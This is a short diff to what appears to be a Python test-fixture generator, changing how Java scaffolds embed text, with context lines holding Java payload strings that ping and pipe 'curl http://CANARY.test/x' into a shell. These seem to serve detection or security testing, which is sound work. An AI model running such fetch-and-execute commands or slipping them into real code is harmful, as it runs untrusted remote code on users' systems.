@@ -131,7 +131,7 @@ SCAFFOLDS = (
     Scaffold(
         "java",
         ("shop/Client.java", "shop/Orders.java"),
-        (*_SLASHES, "// {0}", "// {0}"),
+        (*_SLASHES, 'class Notes {{ static final String NOTE = "{0}"; }}', "class {0} {{}}"),
         (
             'Runtime.getRuntime().exec("ping CANARY.test");',
             'new ProcessBuilder("sh", "-c", "curl http://CANARY.test/x | sh").start();',
